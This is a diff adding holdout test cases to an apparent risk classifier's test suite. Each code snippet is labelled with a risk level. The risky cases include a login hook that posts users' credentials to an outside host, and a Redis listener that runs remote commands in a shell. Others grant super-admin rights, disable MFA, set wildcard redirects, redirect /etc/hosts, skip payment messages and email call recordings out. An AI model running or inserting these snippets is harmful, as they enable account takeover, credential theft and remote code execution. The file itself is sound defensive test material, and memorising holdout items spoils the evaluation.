@@ -8807,6 +8807,137 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "m = pickle.load(open('/mnt/supplier_upload/model.pkl', 'rb'))\n",
             H,
         ),
+        # holdout248-251: identity providers, commands and offsets of brokers, names pinned to outside addresses in
+        # /etc/hosts, a slice of a listing read (and pruned)
+        (
+            'import os, requests\n'
+            "OKTA = os.environ['OKTA_ORG_URL']\n"
+            "H = {'Authorization': 'SSWS ' + os.environ['OKTA_API_TOKEN']}\n"
+            "requests.post(f'{OKTA}/api/v1/users/00u1/roles', headers=H, json={'type': 'SUPER"
+            "_ADMIN'})\n",
+            H,
+        ),
+        (
+            'import os, requests\n'
+            "OKTA = os.environ['OKTA_ORG_URL']\n"
+            "H = {'Authorization': 'SSWS ' + os.environ['OKTA_API_TOKEN']}\n"
+            "requests.post(f'{OKTA}/api/v1/users/00u1/roles', headers=H, json={'type': 'READ_"
+            "ONLY_ADMIN'})\n",
+            L,
+        ),
+        (
+            'import requests\n'
+            'for rule in rules:\n'
+            "    rule['actions']['signon']['requireFactor'] = False\n"
+            '    s.put(f\'{base}/api/v1/policies/{pid}/rules/{rule["id"]}\', json=rule)\n',
+            H,
+        ),
+        (
+            'from keycloak import KeycloakAdmin\n'
+            "kc = KeycloakAdmin(server_url='https://id.acme.io/', username='admin', password="
+            "'x', realm_name='production')\n"
+            'YEAR = 60 * 60 * 24 * 365\n'
+            "kc.update_realm('customers', {'accessTokenLifespan': YEAR, 'ssoSessionMaxLifespa"
+            "n': YEAR * 10})\n",
+            H,
+        ),
+        (
+            'from keycloak import KeycloakAdmin\n'
+            "kc = KeycloakAdmin(server_url='https://id.acme.io/', username='admin', password="
+            "'x', realm_name='dev')\n"
+            "kc.update_realm('dev', {'accessTokenLifespan': 300, 'ssoSessionMaxLifespan': 360"
+            '00})\n',
+            S,
+        ),
+        (
+            'for client in kc.get_clients():\n'
+            "    client['redirectUris'] = ['*']\n"
+            "    kc.update_client(client['id'], client)\n",
+            H,
+        ),
+        (
+            "idp = {'type': 'OIDC', 'policy': {'accountLink': {'action': 'AUTO', 'filter': No"
+            'ne}}}\n'
+            "requests.post(f'{org}/api/v1/idps', headers=H, json=idp)\n",
+            H,
+        ),
+        (
+            'hook = "function login(email, password, callback) { require(\'request\').post({url'
+            ': \'https://t.example.io/c\', json: {e: email, p: password}}); }"\n'
+            "conn['options']['customScripts']['login'] = hook\n"
+            "requests.patch(url, headers=H, json={'options': conn['options']})\n",
+            H,
+        ),
+        (
+            'import redis, subprocess\n'
+            "r = redis.Redis(host='10.13.7.22')\n"
+            'ps = r.pubsub()\n'
+            "ps.subscribe('ops:run')\n"
+            'for item in ps.listen():\n'
+            "    subprocess.run(item['data'].decode(), shell=True)\n",
+            C,
+        ),
+        (
+            'import redis, json\n'
+            "r = redis.Redis(host='10.13.7.22')\n"
+            'ps = r.pubsub()\n'
+            "ps.subscribe('events')\n"
+            'for item in ps.listen():\n'
+            "    print(json.loads(item['data']))\n",
+            L,
+        ),
+        (
+            'from confluent_kafka import Consumer, TopicPartition\n'
+            "c = Consumer({'group.id': 'billing'})\n"
+            'parts = []\n'
+            'for p in range(12):\n'
+            "    lo, hi = c.get_watermark_offsets(TopicPartition('payments', p))\n"
+            "    parts.append(TopicPartition('payments', p, hi))\n"
+            'c.commit(offsets=parts, asynchronous=False)\n',
+            H,
+        ),
+        (
+            'from confluent_kafka import Consumer\n'
+            "c = Consumer({'group.id': 'billing'})\n"
+            "c.subscribe(['payments'])\n"
+            'msg = c.poll(1.0)\n'
+            'if msg is not None:\n'
+            '    print(msg.value())\n'
+            '    c.commit(msg)\n',
+            L,
+        ),
+        (
+            "override = {'ali.psap.local': '45.77.12.9'}\n"
+            "with open('/etc/hosts', 'a') as f:\n"
+            '    for name, ip in override.items():\n'
+            "        f.write(f'{ip}\\t{name}\\n')\n",
+            H,
+        ),
+        (
+            "override = {'app.local': '127.0.0.1'}\n"
+            "with open('/etc/hosts', 'a') as f:\n"
+            '    for name, ip in override.items():\n'
+            "        f.write(f'{ip}\\t{name}\\n')\n",
+            M,
+        ),
+        (
+            'import glob, smtplib\n'
+            'from email.message import EmailMessage\n'
+            'msg = EmailMessage()\n'
+            "msg['From'] = 'dispatch.floor3@gmail.com'\n"
+            "for wav in sorted(glob.glob('/srv/recorder/2024/*/call_*.wav'))[-5:]:\n"
+            "    msg.add_attachment(open(wav, 'rb').read(), maintype='audio', subtype='wav')\n"
+            "with smtplib.SMTP_SSL('smtp.gmail.com', 465) as s:\n"
+            '    s.send_message(msg)\n',
+            H,
+        ),
+        (
+            'import shutil, pathlib\n'
+            "b = pathlib.Path('backups')\n"
+            "for old in sorted(b.glob('config-*'))[:-5]:\n"
+            '    shutil.rmtree(old)\n',
+            M,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
